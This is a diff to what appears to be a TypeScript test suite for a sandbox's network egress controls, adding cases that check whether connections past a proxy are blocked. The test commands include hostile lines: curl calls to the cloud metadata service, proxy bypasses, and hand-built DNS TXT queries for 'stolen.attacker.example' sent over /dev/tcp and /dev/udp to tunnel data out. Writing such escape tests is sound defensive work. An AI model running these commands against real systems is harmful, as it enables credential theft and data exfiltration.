@@ -58,6 +58,42 @@ function expectStatus(run: Run, statuses: readonly number[]): void {
   if (!statuses.includes(Number(got))) throw escaped(`the answer was ${got}, expected ${statuses.join(' or ')}`);
 }
 
+/**
+ * A connection past the proxy. Where the sandbox captures, it stands and is refused in our words; elsewhere there is no
+ * route. Either way nobody outside hears of it.
+ */
+function past(name: string, statuses: readonly number[], attack: string): EscapeCase {
+  return {
+    name,
+    stop: 'network namespace, policy',
+    attack: () => `echo tried; env -i PATH="$PATH" curl -s -m 10 -w '\\nstatus %{http_code}\\n' ${attack}`,
+    judge: (_field, run) => {
+      const status = Number(/^status (\d+)$/m.exec(run.stdout)?.[1]);
+      if (Number.isNaN(status)) throw unclear(`no answer: ${run.stdout}${run.stderr}`);
+      if (status === 0) return;
+      if (!statuses.includes(status) || !run.stdout.includes('urn:cordon:problem:'))
+        throw escaped(`somebody answered ${status}: ${run.stdout}`);
+    },
+  };
+}
+
+/** What came back, byte by byte; nothing at all is as good. */
+function bytes(name: string, stop: string, attack: string, allowed: RegExp): EscapeCase {
+  return {
+    name,
+    stop,
+    attack: () => `echo tried; ${attack} 2>/dev/null | od -An -v -tx1 | tr -d ' \\n' | sed 's/^/bytes /'`,
+    judge: (_field, run) => {
+      const got = /^bytes ([0-9a-f]*)$/m.exec(run.stdout)?.[1] ?? '';
+      if (got !== '' && !allowed.test(got)) throw escaped(`the answer was ${got}`);
+    },
+  };
+}
+
+/** TXT of `stolen.attacker.example` (RFC 1035). */
+const txtQuery =
+  '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06stolen\\x08attacker\\x07example\\x00\\x00\\x10\\x00\\x01';
+
 const curl = (args: string): string => `curl -s -S -m 10 -o /dev/null -w 'status %{http_code}\\n' ${args}`;
 /** Bytes straight to the proxy's socket; the first status line of the answer. */
 const raw = (bytes: string): string =>
@@ -69,8 +105,6 @@ export const egressCases: readonly EscapeCase[] = [
   probe('connect-mapped', 'network namespace', unreachable, (field) => String(field.tcp.port)),
   probe('connect-mptcp', 'seccomp, network namespace', unreachable, (field) => String(field.tcp.port)),
   probe('connect-sctp', 'seccomp, network namespace', unreachable, (field) => String(field.tcp.port)),
-  probe('connect-public', 'network namespace', unreachable),
-  probe('connect-metadata', 'network namespace', unreachable),
   probe('fast-open', 'network namespace', unreachable, (field) => String(field.tcp.port)),
   probe('udp-public', 'network namespace', unreachable),
   reaches('UDP to the host’s loopback', 'network namespace', (field) => `./probe udp ${field.udp.port}`),
@@ -81,7 +115,7 @@ export const egressCases: readonly EscapeCase[] = [
   ),
   reaches(
     'DNS for a name that carries data',
-    'no name server',
+    'a name server that asks nobody',
     () => 'getent hosts stolen.attacker.example; bash -c "echo x > /dev/udp/127.0.0.1/53"',
   ),
   reaches(
@@ -100,6 +134,42 @@ export const egressCases: readonly EscapeCase[] = [
   ),
   reaches('a short address', 'canonical host', (field) =>
     curl(`-x http://127.0.0.1:3128 --noproxy '' http://127.1:${field.tcp.port}/`),
+  ),
+  past('a public address, past the proxy', [403], 'http://192.0.2.1/'),
+  past('a public address by https, past the proxy', [403], '-k https://192.0.2.1/'),
+  past('a public IPv6 address, past the proxy', [403], "-k 'https://[2001:db8::1]/'"),
+  past('a mapped address, past the proxy', [400, 403], "'http://[::ffff:169.254.169.254]/'"),
+  past('the metadata service, past the proxy', [403], 'http://169.254.169.254/latest/meta-data/'),
+  past('another port of a public address, past the proxy', [403], 'http://192.0.2.1:8080/'),
+  past(
+    'a name without a grant at an address of its own choice',
+    [403, 421],
+    '-k --resolve other.example:443:192.0.2.1 https://other.example/',
+  ),
+  past(
+    'the granted name at an address of its own choice',
+    [403, 421],
+    `-k --resolve ${grantedHost}:443:192.0.2.1 https://${grantedHost}/open/a`,
+  ),
+  past('DNS over HTTPS', [403, 421], '-k https://192.0.2.53/dns-query?dns=c3RvbGVu'),
+  past('DNS over TLS', [400, 403, 421], '-k https://192.0.2.53:853/'),
+  bytes(
+    'DNS over TCP',
+    'network namespace, policy',
+    `timeout 5 bash -c 'exec 3<>/dev/tcp/192.0.2.53/53; printf "\\x00\\x29${txtQuery}" >&3; cat <&3'`,
+    /^$/,
+  ),
+  bytes(
+    'a TXT tunnel through the name server',
+    'a name server that asks nobody',
+    `timeout 5 bash -c 'exec 3<>/dev/udp/127.0.0.1/53; printf "${txtQuery}" >&3; head -c 12 <&3'`,
+    /^12348185/,
+  ),
+  bytes(
+    'a TXT tunnel through a resolver of its own choice',
+    'network namespace',
+    `timeout 5 bash -c 'exec 3<>/dev/udp/192.0.2.53/53; printf "${txtQuery}" >&3; timeout 2 head -c 12 <&3'`,
+    /^$/,
   ),
   refused('a host without a grant', 'policy', [403], () => curl('https://other.example/')),
   refused('another method than granted', 'policy', [403], () => curl(`-X POST -d x https://${grantedHost}/open/a`)),
